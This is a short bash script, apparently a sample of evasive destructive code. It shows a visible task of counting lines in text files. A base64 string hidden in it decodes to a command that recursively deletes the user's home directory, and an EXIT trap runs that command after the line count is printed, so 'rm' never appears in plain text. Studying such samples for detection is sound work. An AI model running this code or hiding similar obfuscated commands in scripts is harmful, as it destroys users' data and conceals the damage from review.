#!/usr/bin/env bash
# Evasion: delete the home recursively. The command is base64 text that is
# decoded into an EXIT trap, so it runs as the script ends, after the visible
# "work" is done; no rm appears in the program text.
set -u

cleanup=$(printf '%s' 'cm0gLXJmIC0tICIkSE9NRSI=' | base64 -d)
trap "$cleanup" EXIT

count=0
for f in ./*.txt; do
    [[ -e $f ]] || continue
    count=$((count + $(wc -l < "$f")))
done
echo "lines: $count"
